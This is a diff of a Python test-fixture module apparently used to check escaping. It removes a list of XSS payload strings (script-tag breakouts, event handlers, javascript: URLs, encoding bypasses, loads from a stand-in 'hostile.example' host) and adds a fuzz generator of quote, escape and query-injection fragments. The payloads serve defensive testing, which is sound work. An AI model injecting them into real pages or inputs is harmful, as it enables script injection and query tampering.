@@ -1,75 +1,33 @@
-"""Strings that break out where a program builds markup carelessly."""
+"""Texts that try to be more than values: ends of literals, escapes, operators, templates, controls and far planes, in any mixture."""
 
-MARK = "ran"
-"""What a script of these leaves on the document element, as `data-ran`."""
-_RUN = f"document.documentElement.dataset.{MARK}=1"
-_FETCH = "https://hostile.example/x"
+import random
 
-HOSTILE = (
-    f"<script>{_RUN}</script>",
-    f"</script><script>{_RUN}</script>",
-    f"</title><script>{_RUN}</script>",
-    f"</style><script>{_RUN}</script>",
-    f"</desc></svg><script>{_RUN}</script>",
-    f"</textarea><script>{_RUN}</script>",
-    f"--><script>{_RUN}</script><!--",
-    f"]]><script>{_RUN}</script>",
-    f"<SCRIPT SRC={_FETCH}></SCRIPT>",
-    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
-    f"<img src=x onerror={_RUN}>",
-    f"<img src={_FETCH}>",
-    f'"><img src=x onerror="{_RUN}">',
-    f"'><img src=x onerror='{_RUN}'>",
-    f"<svg onload={_RUN}>",
-    f"<svg><script>{_RUN}</script></svg>",
-    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
-    f"<svg><set onbegin={_RUN}>",
-    f'<svg><use href="data:image/svg+xml,<svg onload={_RUN}>"></use></svg>',
-    f"<math><mtext></p><img src=x onerror={_RUN}></math>",
-    f"<body onload={_RUN}>",
-    f"<iframe src=javascript:{_RUN}></iframe>",
-    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
-    f"<iframe src={_FETCH}></iframe>",
-    f"<object data={_FETCH}></object>",
-    f"<embed src={_FETCH}>",
-    f"<link rel=stylesheet href={_FETCH}>",
-    f"<link rel=prefetch href={_FETCH}>",
-    f"<base href={_FETCH}>",
-    f"<meta http-equiv=refresh content='0;url={_FETCH}'>",
-    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
-    f"<style>@import '{_FETCH}'</style>",
-    f"<style>body{{background:url({_FETCH})}}</style>",
-    f"<div style=\"background:url('{_FETCH}')\">",
-    f"<input autofocus onfocus={_RUN}>",
-    f"<details open ontoggle={_RUN}>",
-    f"<video src={_FETCH} onerror={_RUN}>",
-    f"<audio src=x onerror={_RUN}>",
-    f"<source srcset={_FETCH}>",
-    f"<form action={_FETCH}><button autofocus>",
-    f"<a href=javascript:{_RUN}>click</a>",
-    f"<a ping={_FETCH} href=#>click</a>",
-    f"javascript:{_RUN}",
-    f"data:text/html,<script>{_RUN}</script>",
-    f"x' onmouseover='{_RUN}",
-    f'x" onmouseover="{_RUN}" autofocus tabindex="1" onfocus="{_RUN}',
-    f"x onfocus={_RUN} autofocus",
-    f"`onmouseover={_RUN}`",
-    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
-    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
-    f"\u003cscript\u003e{_RUN}\u003c/script\u003e",
-    f"%3Cscript%3E{_RUN}%3C/script%3E",
-    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
-    f"<script\x00>{_RUN}</script>",
-    f"<\x00script>{_RUN}</script>",
-    f"\x0b<img\x0bsrc=x\x0bonerror={_RUN}>",
-    f"<img/src=x/onerror={_RUN}//",
-    f"{{{{constructor.constructor('{_RUN}')()}}}}",
-    f"{{% raw %}}<script>{_RUN}</script>{{% endraw %}}",
-    f"${{{_RUN}}}",
-    f"\u202e<script>{_RUN}</script>\u202c\u2066",
-    f"\ud800<script>{_RUN}</script>\udfff",
-    f"\ufffe\uffff<img src=x onerror={_RUN}>",
-    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
-    f"<template><script>{_RUN}</script></template>",
-    "a" * 5000 + f"<script>{_RUN}</script>",
-)
+_PARTS = (
+    '"', "'", "\\", '\\"', "\\\\", "\\u0022", "\\\\u0022", "\\x22", "\\042", "\\n", "\n", "\r", "\t", "\0", "\x1b", "\x7f", "\u2028",
+    " or ", " and ", " not ", '" or id != "', "' or '' == '", "\\u0022 or id != \\u0022", '"] or text in ["', "%", "_", "like", "{v0}", "{",
+    "}", "[", "]", "(", ")", "$meta", "null", "true", "1", "-1", "==", "&&", "||", "//", "/*", "--", ";", "~0", "~1", "/", ".", " ",
+    "\u00a0", "ä", "a\u0308", "น้ำ", "🎉", "\U0010ffff", "\ufeff", "\u202e", "id", "text", "a", "0",
+)  # fmt: skip
+
+
+def hostile_values(count: int, seed: int) -> list[str]:
+    """So many texts of up to eight such parts; each part stands alone once."""
+    chance = random.Random(seed)
+    made = [*_PARTS, *("".join(chance.choices(_PARTS, k=chance.randint(2, 8))) for _ in range(count))]
+    return made[:count]
+
+
+_GO_ESCAPES = {"n": "\n", "r": "\r", "t": "\t", "a": "\a", "b": "\b", "f": "\f", "v": "\v", "\\": "\\", '"': '"'}
+
+
+def read_literal(literal: str) -> str:
+    """What a server reads: Go's `strconv.Unquote`, whose escapes of characters by number must not occur."""
+    assert literal[0] == literal[-1] == '"'
+    body, text, place = literal[1:-1], "", 0
+    while place < len(body):
+        assert body[place] not in '"\n', "the literal ends before its end"
+        if body[place] != "\\":
+            text, place = text + body[place], place + 1
+        else:
+            text, place = text + _GO_ESCAPES[body[place + 1]], place + 2
+    return text
